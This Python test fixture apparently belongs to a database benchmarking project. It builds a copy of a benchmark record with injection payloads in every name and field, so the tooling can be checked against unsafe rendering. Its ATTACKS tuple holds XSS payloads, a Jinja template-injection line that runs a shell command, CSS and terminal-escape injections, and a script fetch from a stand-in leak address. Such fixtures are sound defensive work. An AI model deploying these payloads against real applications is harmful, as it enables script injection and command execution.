"""Records whose every name is an attack on whoever reads them."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import polars as pl

from pgstudies.records.reading import read_record
from pgstudies.records.samples import SAMPLES_SCHEMA
from pgstudies.records.writing import write_whole

if TYPE_CHECKING:
    from pathlib import Path

MARK = "pwned"
"""What an attack that runs sets in its page, and the name of the file that it makes."""

LEAK = "http://192.0.2.1/leak"
"""Where an attack that fetches goes: an address that nobody has."""

ATTACKS = (
    f'<img src=x onerror="window.{MARK}=1">',
    f"<script>window.{MARK}=1</script>",
    f'<script src="{LEAK}.js"></script>',
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    f"</script><script>window.{MARK}=1</script><!--<script>",
    f'</text></svg><svg onload="window.{MARK}=1">',
    f'" onmouseover="window.{MARK}=1" autofocus onfocus="window.{MARK}=1',
    f"[click](javascript:window.{MARK}=1) ![shown]({LEAK})",
    f"{{{{ cycler.__init__.__globals__.os.system('touch {MARK}') }}}}",
    f"'] || warn('{MARK}') || datum['",
    f"\\' + {MARK}() + \\\"",
    f"\n\n; background: url({LEAK})",
    "\x1b[2J\x1b]0;title\x07\u202etxet\u200b",
)

NAME = " ".join(ATTACKS)

SHORT = f"{ATTACKS[0]} {ATTACKS[8]} {ATTACKS[9]}"
"""For what charts show in large letters, which would be pictures of gigabytes."""


def hostile_record(genuine: Path, place: Path) -> Path:
    """A copy of a record, below ``place``, with attacks in all words that it has.

    What notebooks look for by name is still there, and beside it arms, steps, cases, metrics and
    units that they do not know.
    """
    record = read_record(genuine)
    info: Any = record.info
    first, last = info["arms"][0]["name"], info["arms"][-1]["name"]
    known = record.samples.select(*SAMPLES_SCHEMA)
    some = known.filter(pl.col("arm").is_in([first, last]), pl.col("block") <= 3)
    steps = known["step"].drop_nulls().unique(maintain_order=True).to_list()[:1]
    of_step = known.filter(pl.col("step").is_in(steps))
    added = [
        some.filter(pl.col("arm") == last).with_columns(arm=pl.lit(SHORT)),
        of_step.with_columns(step=pl.lit(f"step {SHORT}")),
        of_step.with_columns(case=pl.lit(f"case {SHORT}")),
        of_step.filter(pl.col("metric").str.starts_with("own: ")).with_columns(
            metric=pl.format("own: {} {}", "metric", pl.lit(NAME)), value=pl.col("value") * 1e3
        ),
        some.head(50).with_columns(metric=pl.lit(NAME), unit=pl.lit(NAME)),
    ]
    write_whole(place / genuine.name, _hostile(info), pl.concat([known, *added]))
    return place / genuine.name


def _hostile(info: Any) -> Any:
    servers = [info["server"], *info.get("servers", {}).values()]
    for server in servers:
        server["version_text"] = f"{server['version_text']}{ATTACKS[0].replace(' ', '/')} {NAME}"
        server |= {name: NAME for name in ("source", "build", "cflags") if server.get(name)}
        server["unmet_settings"] = {NAME: [NAME, NAME]}
        server["nondefault_settings"] = [dict.fromkeys(("name", "value", "unit", "source"), NAME)]
    for arm in info["arms"]:
        arm["description"] = NAME
    kept = ("boot_id", "booted_at")
    words = {k: NAME for k, v in info["host"].items() if isinstance(v, str) and k not in kept}
    common = {"description": NAME, "baseline": False, "copy_of": None, "server": None}
    left_out = dict.fromkeys(("arm", "step", "case", "reason"), NAME)
    return info | {
        "host": info["host"] | words | {NAME: NAME},
        "parameters": info["parameters"] | {NAME: NAME},
        "arms": [
            *info["arms"],
            common | {"name": SHORT, "not_run": None, "options": {}, "settings": {NAME: NAME}},
            common | {"name": f"not run {NAME}", "not_run": NAME, "options": {}},
        ],
        "gate": [dict.fromkeys(("name", "level", "sentence"), NAME)],
        "left_out": [*info["left_out"], left_out],
        "packages": {NAME: NAME},
        "git": {"revision": NAME, "dirty": True},
    }
